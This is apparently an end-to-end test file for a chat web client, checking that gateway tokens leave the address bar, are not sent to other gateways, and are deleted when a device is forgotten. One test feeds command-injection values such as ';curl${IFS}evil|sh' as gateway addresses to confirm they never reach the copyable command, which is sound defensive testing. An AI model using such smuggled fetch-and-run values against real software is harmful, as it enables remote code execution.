// What is secret goes only where it was meant to go.
import assert from "node:assert/strict";
import { scenario, until } from "./harness/index.mjs";

const EMBEDDED = { servers: ["embedded"] };

scenario("a link pasted into the open page is followed, and its token leaves the address bar", EMBEDDED, async ({ chat, page, server }) => {
  await chat.open({ token: null });
  await chat.hasStatus("Signed out");
  const link = new URLSearchParams({ gateway: server.gateway, token: server.token });
  const entries = await page.evaluate(() => history.length);
  await page.evaluate((link) => (location.hash = link), String(link));
  await chat.hasStatus("Connected");
  assert.equal(page.url(), server.page);
  assert.equal(await page.evaluate(() => history.length), entries + 1, "the entry with the token was replaced");
});

scenario(
  "the token of one gateway is not sent to another when only the address is changed",
  { ...EMBEDDED, strangers: ["no scopes"] },
  async ({ chat, page, server, strangers, frames }) => {
    await chat.connect();
    const stranger = strangers["no scopes"];
    const withToken = () => frames.filter(({ direction, text }) => direction === "sent" && text.includes(server.token));
    const before = withToken().length;
    assert.ok(before > 0, "the right gateway got it");
    await page.getByRole("button", { name: "Change gateway" }).click();
    await chat.address.fill(stranger.url);
    await chat.connectButton.click();
    await chat.says(/^Signed out: .*allows it nothing/);
    assert.ok(stranger.connections > 0);
    assert.equal(withToken().length, before);
    assert.equal(await chat.token.inputValue(), "");
    await page.getByText("was taken out of the form").waitFor();
  },
);

scenario("a link cannot put a command of its own into the one to copy", EMBEDDED, async ({ chat, page, complaints }) => {
  complaints.expect(/content.security.policy/i);
  await chat.open({ gateway: "ws://127.0.0.1:9/;curl${IFS}evil|sh", token: null });
  await page.getByText(/is in no address/).waitFor();
  await chat.open({ gateway: "ws://127.0.0.1:9/;curl$IFS-evil&sh", token: null });
  await page.getByText("clawline-relay serve").waitFor();
  assert.equal(await page.getByText("clawline-relay serve").innerText(), "clawline-relay serve --gateway ws://127.0.0.1:9");
});
scenario(
  "this device can be forgotten, after a question: the gateway sees a new one",
  { ...EMBEDDED, server: { relay: ["--pair", "always"] } },
  async ({ chat, page, server }) => {
    const remembered = () => page.evaluate(() => Object.entries(localStorage).filter(([name]) => name.startsWith("clawline.token:")).map(([, token]) => token));
    await chat.open({ token: null });
    await chat.token.fill(server.token);
    await page.getByLabel("Remember on this device").check();
    await chat.connectButton.click();
    await chat.hasStatus("Waiting for approval");
    assert.deepEqual(await remembered(), [server.token]);
    const first = await chat.requestId();
    await server.approve(first);
    await chat.hasStatus("Connected");
    await page.getByRole("button", { name: "Change gateway" }).click();
    await page.getByRole("button", { name: "Forget this device" }).click();
    await page.getByRole("button", { name: "Keep it" }).click();
    await page.getByRole("button", { name: "Back to the conversation" }).click();
    await server.line({ mode: "refuse" });
    await server.cut();
    await chat.hasStatus("Reconnecting");
    await chat.send("deleted with the key");
    await chat.reaches("deleted with the key", "queued");
    await page.getByRole("button", { name: "Change gateway" }).click();
    await page.getByRole("button", { name: "Forget this device" }).click();
    await page.getByText("A message that has not been sent is deleted with it.").waitFor();
    await page.getByRole("button", { name: "Yes, forget it" }).click();
    await page.getByText("key is deleted").waitFor();
    assert.deepEqual(await remembered(), []);
    await chat.hasStatus("Offline");
    await server.line({});
    await chat.connectButton.click();
    await chat.hasStatus("Waiting for approval");
    await until("the request is a new one", async () => (await chat.requestId()) !== first);
    await server.approve(await chat.requestId());
    await chat.isReady();
    assert.equal((await chat.said("You", "deleted with the key")).length, 0);
  },
);
